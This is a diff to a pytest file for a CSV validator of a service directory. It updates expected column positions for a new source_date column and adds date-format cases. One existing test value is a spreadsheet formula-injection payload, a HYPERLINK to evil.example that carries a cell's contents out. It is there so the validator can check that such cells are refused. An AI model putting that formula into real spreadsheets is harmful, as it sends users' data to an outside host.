@@ -101,13 +101,15 @@ def _nijmegen_csv(column: str = "", value: str = "", extra: tuple[str, ...] = ()
 @pytest.mark.parametrize(
     ("column", "value", "expected"),
     [
-        ("role", "emergency", "x.csv:2:20 [csv-cell]"),
+        ("role", "emergency", "x.csv:2:21 [csv-cell]"),
         ("verified", "28-11-2026", "x.csv:2:17 [csv-cell]"),
         ("source", "www.example.org", "x.csv:2:18 [csv-cell]"),
         ("phone", "call us", "x.csv:2:6 [csv-cell]"),
-        ("serves", "violence", "x.csv:2:21 [csv-cell]"),
-        ("serves", "residence=undocumented; residence=asylum_seeker", "x.csv:2:21 [csv-cell]"),
-        ("other_sources", "https://example.org www.example.org", "x.csv:2:19 [csv-cell]"),
+        ("serves", "violence", "x.csv:2:22 [csv-cell]"),
+        ("serves", "residence=undocumented; residence=asylum_seeker", "x.csv:2:22 [csv-cell]"),
+        ("other_sources", "https://example.org www.example.org", "x.csv:2:20 [csv-cell]"),
+        ("source_date", "2018/01", "x.csv:2:19 [csv-cell]"),
+        ("source_date", "2018-13", "x.csv:2:19 [csv-cell]"),
         ("id", "", "x.csv:2:1 [csv-cell]"),
         # R1: a text a spreadsheet would run, neutralised or not, is refused as validate refuses it
         ("name.nl", '=HYPERLINK("https://evil.example/?d="&D2,"Zorgcafé")', "x.csv:2:2 [text-formula]"),
@@ -162,10 +164,10 @@ OPEN, CLOSED_EARLY = ',"Zorgcafé ', ',"Zorg" café '
     ("text", "expected"),
     [
         # R11: a cell beyond the last column, or a quote that is never closed, is a problem, not lost text
-        (lambda h, r: h + "\n" + r.rstrip() + ",extra,more\n", ["x.csv:2:24 [csv-cell]"]),
-        (lambda h, r: h + "\n" + r.rstrip() + ",,  ,more\n", ["x.csv:2:26 [csv-cell]"]),
-        (lambda h, r: h + "\n" + r.rstrip() + ',"unterminated\n', ["x.csv:2:24 [csv-cell]"]),
-        (lambda h, r: h + "\n" + r.rstrip() + ',"say ""hi"" and never close\n', ["x.csv:2:24 [csv-cell]"]),
+        (lambda h, r: h + "\n" + r.rstrip() + ",extra,more\n", ["x.csv:2:25 [csv-cell]"]),
+        (lambda h, r: h + "\n" + r.rstrip() + ",,  ,more\n", ["x.csv:2:27 [csv-cell]"]),
+        (lambda h, r: h + "\n" + r.rstrip() + ',"unterminated\n', ["x.csv:2:25 [csv-cell]"]),
+        (lambda h, r: h + "\n" + r.rstrip() + ',"say ""hi"" and never close\n', ["x.csv:2:25 [csv-cell]"]),
         (lambda h, r: h + "\n" + _opened(r, OPEN) + r, ["x.csv:2:2 [csv-cell]"]),
         (lambda h, r: h + "\n" + r + _opened(r, CLOSED_EARLY), ["x.csv:3:2 [csv-cell]"]),
         (lambda h, r: h + "\n" + r.rstrip() + ",,\n", []),  # empty cells beyond the last column lose nothing
